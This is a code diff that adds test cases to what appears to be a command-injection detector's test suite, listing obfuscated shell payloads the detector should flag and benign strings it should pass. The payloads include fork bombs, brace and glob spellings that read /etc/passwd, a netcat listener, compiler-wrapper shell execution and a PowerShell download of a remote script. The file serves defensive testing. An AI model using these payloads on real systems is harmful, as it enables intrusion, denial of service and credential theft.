@@ -175,3 +175,58 @@ describe('cmdi detector', () => {
   ]);
   checkRobust(detectCmdi);
 });
+
+describe('cmdi detector: second-wave shapes', () => {
+  it('expands brace words with a prefix or suffix, and notes $IFS splits', () => {
+    expect(tokenizeShell('c{a,oun}t /etc/passwd')[0]!.words.map((w) => w.text)).toEqual(['cat', 'count', '/etc/passwd']);
+    expect(tokenizeShell('{l,-lh}s')[0]!.words.map((w) => w.text)).toEqual(['ls', '-lhs']);
+    expect(tokenizeShell('echo${IFS}x')[0]!.ifs).toBe(true);
+    expect(tokenizeShell('echo x')[0]!.ifs).toBeUndefined();
+  });
+  checkAttacks(detectCmdi, 'cmdi', [
+    // fork bombs, renamed
+    { value: '.(){ .|.& };.', rule: 'cmdi.fork_bomb' },
+    { value: 'f(){ f & f; };f', rule: 'cmdi.fork_bomb' },
+    { value: 'f(){ f() | f(); }; f', rule: 'cmdi.fork_bomb' },
+    { value: ':(){ :|:& };:', rule: 'cmdi.fork_bomb' },
+    // brace and glob spellings
+    { value: 'c{a,oun}t', rule: 'cmdi.obfuscated_command' },
+    { value: '{l,-lh}s', rule: 'cmdi.obfuscated_command' },
+    { value: '{,/?s?/?i?/c?t,/e??/p??s??,}', rule: 'cmdi.glob_path' },
+    { value: '/???/??t', rule: 'cmdi.obfuscated_command' },
+    { value: '/???/?s', rule: 'cmdi.obfuscated_command' },
+    // $IFS as the blank
+    { value: '0.8462`echo${IFS}crs312`', rule: 'cmdi.obfuscated_command' },
+    // the command spelled through variables set in the same value
+    { value: 'a=nc&&$a -nlvp 555' },
+    { value: 'c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11', rule: 'cmdi.obfuscated_command' },
+    { value: 'x=/etc&&y=/passwd&&z=cat&&$z $x$y', rule: 'cmdi.obfuscated_command' },
+    { value: 'garb=adduse[r];$garb pizza' },
+    // compilers running a wrapper
+    { value: ';c89 -wrapper sh,-c,id .', rule: 'cmdi.command_line' },
+    { value: 'c99 -wrapper sh,-c,curl google.com .', rule: 'cmdi.command_line' },
+    // PowerShell / WMI
+    { value: ';iwmi -class Win32_process -name Create -ArgumentList cmd' },
+    // form encoding's '+' left undecoded, with a glob or quotes
+    { value: 'cat+/et*/*wd', rule: 'cmdi.glob_path' },
+    { value: "cat+/et'c'/passwd", rule: 'cmdi.obfuscated_command' },
+    // the login shell asked to run a command; archive readers on logs
+    { value: '${SHELL} -c "echo hi"' },
+    { value: 'gunzip -c /var/log/sensitive_log_file.gz' },
+    // XML values are read like body values
+    { value: ';iwr http://example.com/path/file.ps1', location: 'xml' },
+    { value: 'www.google.com;/bin/ca? /et*/passwd', location: 'xml' },
+  ]);
+  checkBenign(detectCmdi, [
+    { value: 'dwz_file=$(echo $dwz_file)' },
+    { value: 'ls+Zm9vYmFy/abc+def==', location: 'cookie' },
+    { value: 'Q2F0+L2V0Yy9wYXNzd2Q+id/ls==', location: 'cookie' },
+    { value: 'price=$5 and tax=$1' },
+    { value: 'Use {a,b} or {x,y} as the pair notation' },
+    { value: 'photo.{jpg,png}' },
+    { value: 'Is it /???/ or not? I do not know.' },
+    { value: 'The function f() { return a | b & c; } is bitwise' },
+    { value: 'Compile with gcc -Wall -o app main.c', location: 'xml' },
+    { value: 'Tom & Jerry; the cat and the mouse', location: 'xml' },
+  ]);
+});
